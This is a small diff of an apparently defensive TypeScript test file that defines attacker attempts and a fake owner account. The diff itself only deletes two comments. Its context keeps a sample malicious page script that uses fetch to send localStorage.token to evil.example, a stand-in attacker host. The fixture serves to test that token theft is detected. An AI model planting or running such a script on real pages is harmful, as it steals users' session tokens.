@@ -6,7 +6,6 @@ import { ADDRESSES, operatorId, type Scene } from '../scene.ts';
 import type { Reply } from '../wire.ts';
 import { listOf } from '../../support/json.ts';
 
-/** A malicious page script. */
 const SCRIPT = 'fetch("//evil.example?" + localStorage.token)';
 const SOCK = { username: 'sock@evil.example', email: 'sock@evil.example', role: 'owner' } as const;
 const PASSWORD = 'Out of the deep, at dusk';
@@ -190,7 +189,6 @@ const attempts: readonly Attempt[] = [
   },
 ];
 
-/** One owner. */
 export const owner: Role = { name: 'one owner', attempts };
 
 /** The same by both owners: since these thefts are detected, those of one owner would be. */
